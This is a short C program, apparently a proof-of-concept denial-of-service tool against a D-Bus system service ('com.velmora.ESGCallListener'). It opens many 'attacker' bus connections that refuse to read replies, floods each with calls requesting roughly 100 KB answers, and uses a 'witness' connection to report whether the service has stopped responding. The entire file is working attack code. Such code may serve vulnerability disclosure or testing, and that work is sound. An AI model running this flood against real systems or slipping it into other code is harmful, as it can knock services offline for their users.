/* A client that calls for large answers and reads none: flood CONNECTIONS CALLS. Each connection
   makes that many calls. The program prints what the service took, and then waits for its end. */
#include <dbus/dbus.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static const char service[] = "com.velmora.ESGCallListener";

static DBusConnection* connect_bus(void) {
  DBusConnection* connection = dbus_bus_get_private(DBUS_BUS_SYSTEM, NULL);
  if (connection == NULL) {
    exit(1);
  }
  return connection;
}

/* Asks for a service's programmes. All of them, in a range without end, are about 100 KB. */
static DBusMessage* new_query(const char* seconds) {
  DBusMessage* call =
      dbus_message_new_method_call(service, "/com/velmora/Object", service, "MethodCall");
  const char* method = "GetProgramList";
  char json[256];
  const char* begin = json;
  dbus_int32_t length =
      snprintf(json, sizeof json,
               "{\"global_service_id\":\"tag:example.com,2026:pebblecove\",\"start_time\":1,"
               "\"duration\":%s}",
               seconds);
  dbus_message_append_args(call, DBUS_TYPE_STRING, &method, DBUS_TYPE_INT32, &length,
                           DBUS_TYPE_ARRAY, DBUS_TYPE_BYTE, &begin, length, DBUS_TYPE_INVALID);
  return call;
}

/* The service answers in order, so it has then answered all queries before. */
static int answers(DBusConnection* connection) {
  DBusMessage* query = new_query("0");
  DBusMessage* answer = dbus_connection_send_with_reply_and_block(connection, query, 2000, NULL);
  dbus_message_unref(query);
  if (answer == NULL) {
    return 0;
  }
  dbus_message_unref(answer);
  return 1;
}

int main(int argc, char** argv) {
  int connections = argc == 3 ? atoi(argv[1]) : 0;
  int calls = argc == 3 ? atoi(argv[2]) : 0;
  DBusConnection* witness = connect_bus();
  int sent = 0;
  int answered = 1;
  for (int i = 0; i < connections && answered; ++i) {
    DBusConnection* attacker = connect_bus();
    dbus_connection_set_max_received_size(attacker, 1);
    for (int j = 1; j <= calls && answered; ++j) {
      DBusMessage* query = new_query("4294967294");
      dbus_connection_send(attacker, query, NULL);
      dbus_message_unref(query);
      ++sent;
      /* The bus lets 128 calls of a connection wait. */
      if (j % 100 == 0 || j == calls) {
        dbus_connection_flush(attacker);
        answered = answers(witness);
      }
    }
  }
  printf("after %d calls the service %s\n", sent, answered ? "answers" : "does not answer");
  fflush(stdout);
  pause();
  return 0;
}
